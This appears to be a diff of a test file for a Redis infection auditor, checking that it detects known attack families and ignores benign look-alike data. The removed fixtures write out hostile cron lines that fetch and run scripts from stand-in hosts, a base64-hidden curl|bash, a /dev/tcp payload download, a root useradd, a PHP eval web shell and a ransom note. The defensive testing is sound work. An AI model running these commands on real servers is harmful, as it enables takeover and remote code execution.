@@ -1,3 +1,6 @@
+import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { AuditKnowledge } from '../src/audit/audit-server.ts';
 import { createLearntIndex } from '../src/audit/infection/learnt.ts';
@@ -6,140 +9,133 @@ import { loadKnowledge } from '../src/cli/knowledge.ts';
 import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
 import type { AuditReport } from '../src/model/audit-report.ts';
 import { packagedText } from '../src/platform/files.ts';
+import { FAMILIES } from './attacks/families.ts';
+import { AS_REPORTED, variantOf } from './attacks/variant.ts';
 import { audit } from './peers/hostile-audit.ts';
+import type { RealRelease } from './peers/real-servers.ts';
+import { RELEASES, startReal } from './peers/real-servers.ts';
 import type { RealRedis } from './peers/redis-server.ts';
-import { startRedis } from './peers/redis-server.ts';
 
 /** The shipped rules and campaigns, and no sensor: what a first run of the audit knows. */
-function shipped(): AuditKnowledge {
-  const { rules, campaigns } = loadKnowledge();
-  return {
-    rules: createRuleMatcher(rules),
-    campaigns,
-    learnt: createLearntIndex([]),
-    vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
-  };
+const shipped = loadKnowledge();
+const knowledge: AuditKnowledge = {
+  rules: createRuleMatcher(shipped.rules),
+  campaigns: shipped.campaigns,
+  learnt: createLearntIndex([]),
+  vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
+};
+
+const releases = Object.keys(RELEASES).filter((name): name is RealRelease => name in RELEASES);
+const servers = new Map<RealRelease, RealRedis>();
+/** Where the old release writes: folders with the names of those that attacks write to, below one of our own. */
+const root = mkdtempSync(join(tmpdir(), 'sundew-victim-'));
+
+beforeAll(async () => {
+  for (const folder of ['data', 'var/spool/cron', 'etc/cron.d', 'root/.ssh', 'tmp'])
+    mkdirSync(join(root, folder), { recursive: true });
+  await Promise.all(
+    releases.map(async (release) => {
+      servers.set(release, await startReal(release, '--dir', join(root, 'data')));
+    }),
+  );
+}, 60_000);
+afterAll(async () => {
+  await Promise.all([...servers.values()].map((server) => server.stop()));
+  rmSync(root, { recursive: true, force: true });
+});
+
+/** The server as it was before anybody came; what the test itself does to it is forgotten. */
+async function fresh(release: RealRelease): Promise<RealRedis> {
+  const server = servers.get(release);
+  if (server === undefined) throw new Error(`${release} did not start`);
+  const { client } = server;
+  const quiet = (...argv: [string, ...string[]]): Promise<unknown> =>
+    client.call(...argv).catch(() => undefined);
+  await quiet('REPLICAOF', 'NO', 'ONE');
+  await quiet('FLUSHALL');
+  for (const [name, value] of [
+    ['dir', join(root, 'data')],
+    ['dbfilename', 'dump.rdb'],
+    ['rdbcompression', 'yes'],
+    ['stop-writes-on-bgsave-error', 'yes'],
+    ['protected-mode', 'yes'],
+    ['replica-read-only', 'yes'],
+    ['aof-rewrite-incremental-fsync', 'yes'],
+    ['rdb-save-incremental-fsync', 'yes'],
+    ['slowlog-log-slower-than', '0'],
+  ] as const)
+    await quiet('CONFIG', 'SET', name, value);
+  await quiet('ACL', 'LOG', 'RESET');
+  await quiet('CONFIG', 'RESETSTAT');
+  await quiet('SLOWLOG', 'RESET');
+  return server;
 }
 
-const knowledge = shipped();
-let server: RealRedis;
-beforeAll(async () => {
-  server = await startRedis();
-});
-afterAll(() => server.stop());
-
-async function auditOf(values: Readonly<Record<string, string>>): Promise<AuditReport> {
-  await server.client.flushall();
-  // A flush counts as an attack's trace; here it is the test's own broom.
+async function attacked(
+  release: RealRelease,
+  family: string,
+  seed: number | undefined,
+): Promise<AuditReport> {
+  const server = await fresh(release);
+  // A log of all commands would find everything; only families that leave nothing else have it.
+  const attack = FAMILIES[family];
+  if (attack === undefined) throw new Error(`no family ${family}`);
+  if (attack.logged !== true) await server.client.config('SET', 'slowlog-log-slower-than', '10000');
+  await server.client.call('SLOWLOG', 'RESET');
   await server.client.config('RESETSTAT');
-  for (const [key, value] of Object.entries(values)) await server.client.set(key, value);
+  const names = seed === undefined ? AS_REPORTED : variantOf(seed);
+  for (const argv of attack.commands({ ...names, root }))
+    await server.client.call(...argv).catch(() => undefined);
   return audit(`127.0.0.1:${server.port}`, { knowledge });
 }
 
-const base64 = (text: string): string => Buffer.from(text).toString('base64');
-const SSH_KEY = `ssh-rsa ${base64(`\0\0\0\u0007ssh-rsa\0\0\0\u0003\u0001\0\u0001${'k'.repeat(256)}`)}`;
+const families = Object.keys(FAMILIES);
+const cases = families.flatMap((family, at) =>
+  releases.flatMap((release, nth): [string, RealRelease, number | undefined][] =>
+    release === 'redis-7.0.15'
+      ? [
+          [family, release, undefined],
+          [family, release, at * 7 + 1],
+        ]
+      : // Of the others, each family meets its reported form on one and variants on the rest.
+        [[family, release, (at + nth) % 3 === 0 ? undefined : at * 31 + nth]],
+  ),
+);
 
-describe('families of attacks, by the values they leave', () => {
-  test.for<[string, Record<string, string>]>([
-    ['crackit', { crackit: `\n\n\n${SSH_KEY} x@y\n\n\n` }],
-    ['an SSH key under a strange name', { qzvtt: `\n\n${SSH_KEY}\n\n` }],
-    ['useradd by cron', { user1: '\n*/1 * * * * root /usr/sbin/useradd -ou 0 -g 0 syss\n' }],
-    [
-      'RedisWannaMine',
-      {
-        Backup3: '\t\n*/10 * * * * lynx -source https://transfer.example.invalid/a/b > .cmd && bash .cmd\n\t',
-      },
-    ],
-    [
-      'the backup keys',
-      {
-        backup1: '\n\n\n*/2 * * * * cd1 -fsSL http://203.0.113.9/b2f628/b.sh | sh\n\n',
-        backup2: '\n\n\n*/3 * * * * wget -q -O- http://203.0.113.9/b2f628/b.sh | sh\n\n',
-        backup3: '\n\n\n*/4 * * * * root curl -fsSL http://203.0.113.9/b2f628/b.sh | sh\n\n',
-        backup4:
-          '\n\n\n@hourly python -c "import urllib2; print urllib2.urlopen(\'http://203.0.113.9/t.sh\').read()" >.1;chmod +x .1;./.1\n\n',
-      },
-    ],
-    [
-      'a hidden command',
-      {
-        x1: `\n*/2 * * * * root echo ${base64('curl -fsSL http://203.0.113.9/a.sh | bash')} | base64 -d | bash | bash\n`,
-      },
-    ],
-    [
-      'a download through /dev/tcp',
-      {
-        weapon2:
-          "\n*/5 * * * * bash -c 'exec 6<>/dev/tcp/203.0.113.9/60114 && cat 0<&6 > /tmp/a && chmod +x /tmp/a && /tmp/a'\n",
-      },
-    ],
-    ['a web shell', { shell: '<?php @eval($_POST["c"]); ?>' }],
-    [
-      'a ransom note',
-      {
-        README:
-          'Your data is backed up. Send 0.1 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa to recover it. Contact a@b.example.invalid',
-      },
-    ],
-  ])('%s: infected', async ([, values]) => {
-    const report = await auditOf(values);
+describe('families over the wire', () => {
+  test.for(cases)('%s on %s (variant %s): infected, with its ground', async ([family, release, seed]) => {
+    const report = await attacked(release, family, seed);
 
     expect(report.axes.infected).toMatchObject({ answer: 'yes' });
-    expect(report.counts.maliciousValues).toBe(Object.keys(values).length);
-  });
-});
-
-describe('honest look-alikes', () => {
-  test.for<[string, Record<string, string>]>([
-    [
-      'job queues',
-      {
-        'bull:backup:id': '12',
-        'stat:failed': '3',
-        'redbeat:nightly': '{"schedule":{"minute":"*/5","hour":"*"},"task":"app.backup"}',
-      },
-    ],
-    [
-      'a WordPress cache',
-      {
-        'wp:1:posts:4':
-          'O:7:"WP_Post":1:{s:12:"post_content";s:90:"<p>Never write <code>&lt;?php eval($x)</code></p><script src=\'https://cdn.example.com/a.js\'></script>";}',
-      },
-    ],
-    [
-      'a CI job',
-      {
-        'ci:job:9:script':
-          '{"stage":"deploy","script":["curl -fsSL https://get.example.com/tool.sh | sh","make deploy"]}',
-      },
-    ],
-    ['SSH keys of a forge', { 'gitea:user:4:keys': `{"key":"${SSH_KEY} ann@laptop"}` }],
-    [
-      'a session',
-      {
-        'spring:session:sessions:ab':
-          '\u00AC\u00ED\u0000\u0005sr\u0000\u0011java.lang.Integer\u0012\u00E2\u00A0\u00A4\u00F7\u0081\u00878\u0002',
-      },
-    ],
-    ['a price in bitcoin', { 'rates:btc': '{"pair":"BTC-USD","price":"97231.11"}' }],
-    ['names of developers', { test: 'test', foo: 'bar', name: 'abc', '1': '1' }],
-  ])('%s: not infected', async ([, values]) => {
-    const report = await auditOf(values);
-
-    expect(report.axes.infected).toMatchObject({ answer: 'no' });
-    expect(report.counts.maliciousValues).toBe(0);
+    expect(['attacked', 'tampered', 'executed']).toContain(report.rung);
+    expect(report.axes.infected.because.length).toBeGreaterThan(30);
   });
 
-  test('settings that operators choose: not infected', async () => {
-    await auditOf({});
-    await server.client.config('SET', 'rdbcompression', 'no');
-    await server.client.config('SET', 'stop-writes-on-bgsave-error', 'no');
-    await server.client.config('SET', 'protected-mode', 'no');
-    await server.client.replicaof('10.0.0.7', 6_379);
-    await server.client.replicaof('NO', 'ONE');
-
-    const report = await audit(`127.0.0.1:${server.port}`, { knowledge });
-
-    expect(report.axes.infected.answer).toBe('no');
+  const named = families.flatMap((family) => {
+    const campaign = FAMILIES[family]?.campaign;
+    return campaign === undefined ? [] : [[family, campaign] as const];
   });
+  test.for(named)('%s names the campaign %s, with its reasons', async ([family, campaign]) => {
+    const report = await attacked('redis-7.0.15', family, undefined);
+
+    expect(report.campaigns.find(({ id }) => id === campaign)?.because).toMatch(/.{10}/);
+  });
+
+  test.for(releases)(
+    'on %s a worm that puts everything back is told by its counters alone',
+    async (release) => {
+      const server = await fresh(release);
+      await server.client.config('SET', 'slowlog-log-slower-than', '-1');
+      await server.client.call('SLOWLOG', 'RESET');
+      await server.client.config('RESETSTAT');
+      for (const argv of FAMILIES['p2pinfect, settings put back']?.commands({ ...variantOf(5), root }) ?? [])
+        await server.client.call(...argv).catch(() => undefined);
+
+      const report = await audit(`127.0.0.1:${server.port}`, { knowledge });
+
+      expect(report.findings.map(({ rule }) => rule)).toContain('audit.infected.takeover');
+      // Before 7.0 CONFIG and MODULE are counted without their subcommands: a reason to look, no proof.
+      expect(report.axes.infected.answer).toBe(release === 'redis-6.0.16' ? 'no' : 'yes');
+    },
+  );
 });
